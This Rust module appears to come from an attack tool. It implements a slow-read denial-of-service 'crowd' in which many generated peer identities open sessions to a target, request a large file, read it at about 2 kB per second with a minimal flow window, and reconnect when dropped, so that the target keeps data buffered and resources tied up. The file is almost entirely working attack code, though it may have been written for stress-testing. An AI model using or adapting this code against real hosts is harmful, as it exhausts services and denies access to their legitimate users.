//! A crowd of identities that read slowly, each of what it asked for.

use std::sync::Arc;
use std::time::Duration;

use clap::Args;
use sss::{Host, Identity, Stream, WindowConfig};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;

use crate::error::AttackError;
use crate::peers;
use crate::tally::Tally;
use crate::victim::Victim;

/// Bytes that one of a crowd reads at a time, and the time between: 2 kB a second.
const MORSEL: usize = 500;
const PAUSE: Duration = Duration::from_millis(250);
/// Bytes of socket buffers: there are many.
const BUFFERS: usize = 64 << 10;
/// Number of those that come in at a time.
const AT_ONCE: usize = 32;
/// Time for which one of them waits for its session, and until it comes again.
const PATIENCE: Duration = Duration::from_secs(5);
const AGAIN: Duration = Duration::from_millis(500);

/// A crowd, and its target.
#[derive(Args, Clone, Debug)]
pub struct Crowd {
    /// Target, and the file that is read there: a large one.
    #[command(flatten)]
    pub victim: Victim,
    /// Identities.
    #[arg(long, default_value_t = 1500, value_parser = clap::value_parser!(u16).range(1..))]
    pub identities: u16,
    /// Addresses that they come from, in turn: more than one only where the target is in 127/8.
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u16).range(1..))]
    pub addresses: u16,
    /// Streams on which each of them reads.
    #[arg(long, default_value_t = 1, value_parser = clap::value_parser!(u16).range(1..))]
    pub streams: u16,
}

/// One of a crowd.
struct Member {
    victim: Victim,
    /// Number of its address.
    address: u16,
    streams: u16,
    request: Arc<[u8]>,
    door: Arc<Semaphore>,
    tally: Tally,
}

/// Has all of a crowd read at once, until it is dropped.
pub(crate) async fn crawl(crowd: &Crowd, tally: &Tally) -> Result<(), AttackError> {
    let request: Arc<[u8]> = crowd.victim.request()?.into();
    let door = Arc::new(Semaphore::new(AT_ONCE));
    let mut all = JoinSet::new();
    for n in 0..crowd.identities {
        let member = Member {
            victim: crowd.victim.clone(),
            address: n % crowd.addresses.max(1) + 1,
            streams: crowd.streams,
            request: request.clone(),
            door: door.clone(),
            tally: tally.clone(),
        };
        all.spawn(member.crawl());
    }
    while let Some(ended) = all.join_next().await {
        if let Ok(ended) = ended {
            ended?;
        }
    }
    Ok(())
}

impl Member {
    /// Reads slowly, and comes again when it was sent away.
    async fn crawl(self) -> Result<(), AttackError> {
        // The least window, 4 KiB: it grows a little with each second, so that the target has something to do all the
        // time, and what is not read waits there.
        let window = WindowConfig::default().with(|window| window.per_peer_budget = 0);
        self.tally.peer();
        let builder = Host::builder().identity(Identity::generate()).window(window);
        let builder = builder.socket_buffers(BUFFERS).watch_interfaces(false);
        let host = builder
            .bind(self.victim.target.source(69, self.address))
            .build()
            .await?;
        loop {
            let turn = self.door.acquire().await;
            let come = tokio::time::timeout(PATIENCE, self.come(&host)).await;
            drop(turn);
            if let Ok(Some((_session, streams))) = come {
                let mut reading = JoinSet::new();
                for stream in streams {
                    reading.spawn(read(stream, self.tally.clone()));
                }
                reading.join_all().await;
            }
            tokio::time::sleep(AGAIN).await;
        }
    }

    /// A session, and the streams on which the file is asked for.
    async fn come(&self, host: &Host) -> Option<(Stream, Vec<Stream>)> {
        let session = peers::session(host, &self.victim).await?;
        let mut streams = Vec::new();
        for _ in 0..self.streams {
            streams.push(peers::ask(&session, &self.request, &self.tally).await?);
        }
        Some((session, streams))
    }
}

async fn read(mut stream: Stream, tally: Tally) {
    while let Ok(Some(bytes)) = stream.read_chunk(MORSEL).await {
        tally.answered(bytes.len());
        tokio::time::sleep(PAUSE).await;
    }
}
